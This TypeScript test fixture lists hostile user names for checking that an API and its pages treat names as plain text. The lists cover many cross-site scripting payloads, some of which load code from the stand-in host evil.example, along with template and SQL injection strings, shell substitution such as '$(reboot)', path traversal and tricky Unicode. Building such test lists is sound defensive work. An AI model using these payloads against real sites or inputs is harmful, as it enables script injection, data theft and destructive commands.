/** Names that would do something if a page took them for more than text. Each is a name that the API accepts. */
const MARKUP = [
  "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT >", "<script src=//evil.example/x.js></script>", "<script>alert`1`</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>", "<img src=x onerror=\"alert('1')\">", "<img src='//evil.example/pixel'>", "<img/src/onerror=alert(1)>", "<image href=x onerror=alert(1)>",
  "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a href='javascript:alert(1)'><text y=9>x</text></a></svg>",
  "<math><mtext></table><img src=x onerror=alert(1)>", "<math href='javascript:alert(1)'>x</math>", "<body onload=alert(1)>", "<iframe src='javascript:alert(1)'></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='data:text/html,<script>alert(1)</script>'></object>", "<embed src='javascript:alert(1)'>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>x</details>",
  "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)></select>", "<marquee onstart=alert(1)>x</marquee>", "<a href='javascript:alert(1)'>click</a>", "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
  "<form action='//evil.example/'><input name=t></form>", "<button formaction='javascript:alert(1)'>x</button>", "<base href='//evil.example/'>", "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<link rel=stylesheet href='//evil.example/x.css'>",
  "<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example/x)}</style>", "<div style='background:url(//evil.example/x)'>x</div>", "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<isindex type=image src=1 onerror=alert(1)>", "<p id=main></p><a name=main>", "<x onclick=alert(1)>click</x>", "<custom-element onpointerenter=alert(1)>x</custom-element>", "<!--<img src='--><img src=x onerror=alert(1)//'>",
] as const;

const BREAKOUTS = [
  "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)", "`onmouseover=alert(1)`",
  "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "</script><script>alert(1)</script>", "</bdi></strong></td><td><img src=x onerror=alert(1)>",
  "-->]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "\"-alert(1)-\"", "'-alert(1)-'", "\\'-alert(1)//", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cimg src=x onerror=alert(1)\\x3e",
] as const;

const TEMPLATES = ["${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "#{alert(1)}", "<%= alert(1) %>", "{{7*7}}", "${{7*7}}", "[[${7*7}]]", "%{7*7}", "*{7*7}", "@(7*7)"] as const;

const ADDRESSES = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example", "../../../etc/passwd", "?reason=<script>alert(1)</script>#<img src=x onerror=alert(1)>"] as const;

const ENCODED = ["&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "＜script＞alert(1)＜/script＞", "&#x202e;reversed"] as const;

const FOR_PROGRAMS = ["__proto__", "constructor", "toString", "null", "undefined", "NaN", "[object Object]", "{\"name\":\"x\"}", "=HYPERLINK(\"//evil.example\")", "'; DROP TABLE tokens; --", "$(reboot)", "`reboot`", "%s%s%n", "$&", "$1$`"] as const;

const UNICODE = [
  "טוקן של ייצור", "رمز الوصول (1)", "\u200Fright to left mark\u200F!", "A\u200Db\u200Dc", "👩‍👩‍👧‍👦🏴‍☠️🇺🇳", "Z̸̛̀̂a̸̛̎̆l̸̈́̒g̸̊o̸͝", "раураl", "ﷺ".repeat(80), "W".repeat(255), "😀".repeat(255), "a ".repeat(127), "\u00A0\u2003x\u2003\u00A0", "  two  spaces  ", "ﬁ ½ Å ǅ İ ı ß", "\u0301\u0301\u0301\u0301",
] as const;

export const HOSTILE: readonly string[] = [...MARKUP, ...BREAKOUTS, ...TEMPLATES, ...ADDRESSES, ...ENCODED, ...FOR_PROGRAMS, ...UNICODE].map((name) => name.normalize("NFC"));

/** What no name may hold: what is not seen, and what turns the direction of what follows. */
export const REFUSED = ["admin\u202Egnitset", "a\u2066b\u2069", "zero\u200Bwidth", "line\u2028break", "null\u0000byte", "\uFEFFbom"] as const;
